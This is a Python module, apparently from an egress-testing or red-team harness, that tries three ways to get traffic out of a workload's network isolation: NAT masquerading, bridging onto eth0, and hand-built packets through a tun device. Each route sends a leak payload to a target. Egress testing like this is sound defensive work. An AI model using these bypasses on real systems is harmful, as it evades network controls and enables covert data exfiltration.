"""Networks made inside the workload, with the way out through its device.

`way`:
    nat      a namespace behind a veth; forwarded and masqueraded (such TCP has no socket here)
    bridge   a namespace whose veth shares a bridge with eth0, under an address of its own
    tunnel   an IPv4 packet made by hand goes in by a tun device and is forwarded
"""

from __future__ import annotations

import fcntl
import os
import socket
import struct
import time
from collections.abc import Callable
from pathlib import Path

from attacks.connection import leak, leak_in_halves
from attacks.frames import udp4
from attacks.inner import Inner, addresses, configure, run
from attacks.target import Impossible, Target, refused

INNER4, HERE4 = "192.0.2.2", "192.0.2.1"
TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 1, 0x1000


def veth_to(inner: Inner) -> None:
    """A veth with one end here and one there."""
    run("ip", "link", "add", "in9", "type", "veth", "peer", "name", "up9")
    run("ip", "link", "set", "up9", "netns", str(inner.pid))
    run("ip", "link", "set", "in9", "up")


def nat(target: Target) -> None:
    """Forwarding and masquerading, as a container in a container has it."""

    def send() -> None:
        run("ip", "addr", "add", f"{INNER4}/24", "dev", "up9")
        run("ip", "link", "set", "up9", "up")
        run("ip", "route", "add", "default", "via", HERE4)
        leak(target)
        leak_in_halves(target)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made, refused():
            made.sendto(target.payload, (target.address, target.port))

    with Inner.with_work(send) as inner:
        veth_to(inner)
        run("ip", "addr", "add", f"{HERE4}/24", "dev", "in9")
        forward()
        run("iptables", "-w", "-t", "nat", "-A", "POSTROUTING", "-s", INNER4, "-j", "MASQUERADE")
        inner.next()


def forward() -> None:
    """Routing between devices."""
    try:
        Path("/proc/sys/net/ipv4/ip_forward").write_text("1")
    except OSError as error:
        raise Impossible(f"ip_forward: {error.strerror}") from error


def bridge(target: Target) -> None:
    """The inner namespace on the workload's own network."""

    def send() -> None:
        run("ip", "link", "set", "up9", "up")
        run("ip", "addr", "add", f"{target.spare}/24", "dev", "up9")
        run("ip", "route", "add", "default", "via", target.gateways[4])
        leak(target)
        leak_in_halves(target)

    known = addresses(target.device)
    with Inner.with_work(send) as inner:
        veth_to(inner)
        run("ip", "link", "add", "br9", "type", "bridge")
        run("ip", "addr", "flush", "dev", target.device)
        run("ip", "link", "set", target.device, "master", "br9")
        run("ip", "link", "set", "in9", "master", "br9")
        configure(target, "br9", known)
        try:
            inner.next()
        finally:
            run("ip", "link", "del", "br9", check=False)
            configure(target, target.device, known)


def tunnel(target: Target) -> None:
    """A user-space network stack's way out: packets of no socket."""
    try:
        number = os.open("/dev/net/tun", os.O_RDWR)
    except OSError as error:
        raise Impossible(f"/dev/net/tun: {error.strerror}") from error
    fcntl.ioctl(number, TUNSETIFF, struct.pack("16sH14x", b"tun9", IFF_TUN | IFF_NO_PI))
    run("ip", "addr", "add", f"{HERE4}/24", "dev", "tun9")
    run("ip", "link", "set", "tun9", "up")
    forward()
    for _ in range(3):
        os.write(number, udp4(INNER4, target.address, target.port, target.payload))
        time.sleep(0.05)
    os.close(number)


WAYS: dict[str, Callable[[Target], None]] = {
    "nat": nat,
    "bridge": bridge,
    "tunnel": tunnel,
}


def main(target: Target) -> None:
    """One way."""
    WAYS[target.args["way"]](target)
